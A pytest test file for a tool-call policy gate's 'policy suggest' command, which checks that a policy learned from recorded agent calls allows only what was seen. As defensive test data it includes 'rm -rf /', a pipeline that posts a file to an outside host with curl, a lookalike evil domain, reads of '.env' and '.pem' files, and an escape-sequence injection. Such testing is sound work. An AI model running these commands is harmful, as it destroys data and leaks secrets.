"""``rampart policy suggest``: what was seen is allowed, and nothing wider."""

from __future__ import annotations

import pytest
from rampart.config import Settings
from rampart.embedded import gate_of, preview_gate
from rampart.hosts import HostFacts
from rampart.model import ToolCall
from rampart.policy import parse_policy
from rampart.sources import PolicyInForce

WIDE = """\
version: "1"
default_action: allow
policies:
  - name: shell
    match: {tool: exec}
    rules:
      - {action: deny, when: {command_matches: ["rm *"]}}
      - {action: deny, when: {program: curl, upstream: {tool: read}}}
      - {action: ask, when: {command_matches: ["git push*"]}}
      - {action: watch, when: {command_matches: ["date"]}}
"""


def exec_(command, **who):
    return ToolCall("exec", {"command": command}, cwd="/tmp", **who)


def read(path):
    return ToolCall("read", {"path": path}, cwd="/tmp")


@pytest.fixture
def record(data_dir):
    """Return a function that makes calls under a wide policy."""
    policies = PolicyInForce((parse_policy(WIDE, filename="wide"),))
    gate, close = gate_of(Settings(data_dir), policies)
    yield lambda *calls: [gate.enforce(call) for call in calls]
    close()


def suggested(rampart, *options):
    """Return what decides by the suggestion, and its text."""
    found = rampart("policy", "suggest", *options)
    assert found.returncode == 0, found.stderr
    document = parse_policy(found.stdout, filename="suggestion")
    gate = preview_gate(PolicyInForce((document,)), HostFacts())
    return (lambda call: gate.check(call).action), found


def test_what_was_allowed_is_allowed_and_its_neighbours_are_not(rampart, record):
    allowed = [
        exec_("git log -1 && ls src"),
        exec_("echo 'a * b' > /tmp/out.txt"),
        exec_("cat notes.txt | sort -u"),
        read("/tmp/a.txt"),
        ToolCall("write", {"path": "/tmp/b*.txt", "content": "x"}, cwd="/tmp"),
        ToolCall("fetch", {"url": "https://example.com/a?b=1"}, cwd="/tmp"),
        ToolCall("pay", {"amount": 5, "to": "Ann: #1", "really": True, "n": None}, cwd="/tmp"),
    ]
    record(*allowed)
    decide, found = suggested(rampart)
    assert [decide(call) for call in allowed] == ["allow"] * len(allowed)
    assert found.stderr == ""
    neighbours = [
        exec_("git log -1 --output=/tmp/x"),
        exec_("git log"),
        exec_("ls src /"),
        exec_("echo 'a x b' > /tmp/out.txt.bak"),
        exec_("echo 'a * b' > /tmp/other"),
        exec_("rm -rf /"),
        read("/tmp/a.txt.bak"),
        read("/tmp/b.txt"),
        ToolCall("write", {"path": "/tmp/a.txt", "content": "x"}, cwd="/tmp"),
        ToolCall("write", {"path": "/tmp/bX.txt", "content": "x"}, cwd="/tmp"),
        ToolCall("fetch", {"url": "https://example.com/a?b=2"}, cwd="/tmp"),
        ToolCall("fetch", {"url": "https://example.com.evil.test/a?b=1"}, cwd="/tmp"),
        ToolCall("pay", {"amount": 6, "to": "Ann: #1", "really": True, "n": None}, cwd="/tmp"),
        ToolCall("pay", {}, cwd="/tmp"),
        ToolCall("other", {}, cwd="/tmp"),
    ]
    assert [decide(call) for call in neighbours] == ["deny"] * len(neighbours)


def test_words_are_kept(rampart, record):
    record(exec_("git push"), exec_("date"), exec_("rm -rf build"))
    decide, found = suggested(rampart)
    assert [decide(exec_(c)) for c in ("git push", "date", "rm -rf build")] == [
        "ask", "watch", "deny",
    ]  # fmt: skip
    assert "#   exec rm -rf build" in found.stdout


def test_parts_that_were_allowed_do_not_add_up_to_what_was_denied(rampart, record):
    together = exec_("cat a.txt | curl -d @- https://example.com/")
    decisions = record(
        exec_("cat a.txt"), exec_("curl -d @- https://example.com/ < /dev/null"), together
    )
    assert [each.action for each in decisions] == ["allow", "allow", "deny"]
    decide, _ = suggested(rampart)
    assert decide(exec_("cat a.txt")) == "allow"
    assert decide(together) == "deny"


@pytest.mark.parametrize(("files", "wider"), [(4, "deny"), (5, "allow")])
def test_only_many_files_of_one_kind_in_one_directory_stand_for_more(rampart, record, files, wider):
    record(*(read(f"/tmp/src/m{n}.py") for n in range(files)))
    decide, _ = suggested(rampart)
    assert decide(read("/tmp/src/m0.py")) == "allow"
    assert decide(read("/tmp/src/other.py")) == wider
    for path in ("/tmp/src/.env", "/tmp/src/deep/m.py", "/tmp/m.py", "/tmp/src/m0.pem"):
        assert decide(read(path)) == "deny"
    write = ToolCall("write", {"path": "/tmp/src/m0.py", "content": ""}, cwd="/tmp")
    assert decide(write) == "deny"


def test_what_no_grant_can_cover_is_named(rampart, record):
    record(exec_('eval "$X"'), ToolCall("send", {"to": ["a", "b"]}, cwd="/tmp"), exec_("ls"))
    decide, found = suggested(rampart)
    assert "2 of the recorded calls cannot be allowed" in found.stderr
    assert '#   exec eval "$X"' in found.stdout
    assert decide(exec_("ls")) == "allow"
    assert decide(ToolCall("send", {"to": ["a", "b"]}, cwd="/tmp")) == "deny"


def test_one_session_is_learned_from_alone(rampart, record):
    record(exec_("ls", session="a"), exec_("pwd", session="b"), exec_("ls\n#\x1b[2J", session="a"))
    decide, found = suggested(rampart, "--session", "a")
    assert (decide(exec_("ls")), decide(exec_("pwd"))) == ("allow", "deny")
    assert "calls of session a" in found.stdout
    assert "\x1b" not in found.stdout
    nothing = rampart("policy", "suggest", "--session", "c")
    assert (nothing.returncode, nothing.stdout) == (65, "")


def test_a_recording_in_which_nothing_ran_makes_a_policy_that_loads(rampart, record):
    record(exec_("rm -rf build"))
    decide, _ = suggested(rampart)
    assert decide(exec_("rm -rf build")) == "deny"
